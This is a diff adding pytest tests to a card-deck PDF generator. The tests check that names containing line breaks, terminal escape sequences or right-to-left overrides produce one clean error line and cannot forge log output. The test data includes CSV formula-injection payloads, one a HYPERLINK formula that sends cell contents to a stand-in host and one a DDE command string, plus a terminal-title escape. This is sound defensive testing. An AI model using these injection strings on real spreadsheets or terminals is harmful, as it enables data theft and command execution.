@@ -14,7 +14,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from conftest import DECK_YAML, make_workspace, run
-from pnpgen.safetext import CONTROL, csv_cell, csv_text, shown
+from pnpgen.safetext import CONTROL, csv_cell, csv_text, shown, shown_name
 
 EVIL = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)"]
 
@@ -113,3 +113,49 @@ def test_csv_cells_round_trip_and_are_never_live(text):
     cell = csv_cell(text)
     assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
     assert csv_text(cell) == text or (text.startswith("'") and text[1:2] in ("=", "+", "-", "@", "\t", "\r"))
+
+
+@pytest.mark.parametrize("name", ["a\nb", "c\x1b]0;pwned\x07d", "e\u202egpj.exe"])
+@pytest.mark.parametrize("where", ["deck", "game"])
+def test_a_control_character_in_a_deck_or_game_folders_name_is_one_line(tmp_path, capsys, name, where):
+    """A file name is data too: a deck file or a game folder named with a line feed, a terminal
+    sequence or a right-to-left override (whose deck.pdf a file manager shows reversed) stops in
+    one line saying so and naming it escaped — an escape in a deck's name stopped the build as
+    'the template produced invalid SVG'."""
+    import shutil
+
+    ws = make_workspace(tmp_path / "ws")
+    if where == "deck":
+        decks = ws / "data" / "test" / "decks"
+        shutil.copy(decks / "cards.yaml", decks / f"{name}.yaml")
+        args = ["--game", "test"]
+    else:
+        shutil.copytree(ws / "data" / "test", ws / "data" / name)
+        args = ["--all"]
+    capsys.readouterr()
+    assert run(ws, "build", *args, "--no-rulebook") == 2
+    err = capsys.readouterr().err
+    assert err.count("\n") == 1 and "Traceback" not in err and not CONTROL.search(err), err
+    assert "holds the control character U+" in err and f"rename {shown_name(name)}" in err, err
+    assert not (ws / "build").exists() or not any((ws / "build").rglob("*.pdf"))
+
+
+@pytest.mark.parametrize("where", ["deck", "title", "sourced"])
+def test_a_line_break_in_a_name_is_one_line_error(tmp_path, capsys, where):
+    """A deck's name, the game's title and a component's name are said on one line (the build's
+    summary, reprint.txt, the change report): a line break there began a line of the data's own —
+    a forged 'pnpgen: error …' line on the terminal, a false 'reprint nothing' in reprint.txt."""
+    from conftest import GAME_YAML
+
+    forged = '"X\\npnpgen: error: nothing to reprint"'
+    deck = DECK_YAML.replace("name: テストカード", f"name: {forged}") if where == "deck" else None
+    game = {"title": GAME_YAML.replace("title: テストゲーム", f"title: {forged}"),
+            "sourced": GAME_YAML + f"sourced:\n  - {{name: {forged}, count: 3}}\n"}.get(where, GAME_YAML)
+    ws = make_workspace(tmp_path / "ws", deck=deck, game=game)
+    capsys.readouterr()
+    assert run(ws, "build", "--game", "test", "--no-rulebook") == 2
+    captured = capsys.readouterr()
+    assert captured.out == "" and captured.err.count("\n") == 1, captured
+    said = {"deck": "cards.yaml:1:7: name: a deck's name", "title": "game.yaml:1:8: title: the game's title",
+            "sourced": "game.yaml:9:12: sourced.1.name: a component's name"}[where]
+    assert f"{said} holds a line break" in captured.err, captured.err
